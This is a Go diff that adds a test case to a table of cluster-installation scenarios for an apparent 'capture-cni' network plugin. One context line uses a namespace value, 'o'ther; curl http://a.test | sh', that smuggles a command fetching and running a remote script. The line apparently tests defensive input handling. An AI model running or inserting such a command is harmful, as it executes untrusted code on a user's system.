@@ -228,6 +228,10 @@ var changes = []struct {
 	{"installed without Helm", installed("capture-cni", "", "auto")},
 	{"installed elsewhere", installed("other", "mesh", "auto")},
 	{"installed in a namespace that is no word", installed("o'ther; curl http://a.test | sh", "mesh", "auto")},
+	{"installed without Helm, and no label", func(c *Cluster) {
+		installed("capture-cni", "", "auto")(c)
+		c.Namespace = namespace("")
+	}},
 	{"installed, with a pinned image", func(c *Cluster) {
 		installed("capture-cni", "mesh", "auto")(c)
 		c.Installed.Pinned = []string{"ghcr.io/capture-cni/capture-cni:v0.1.0"}
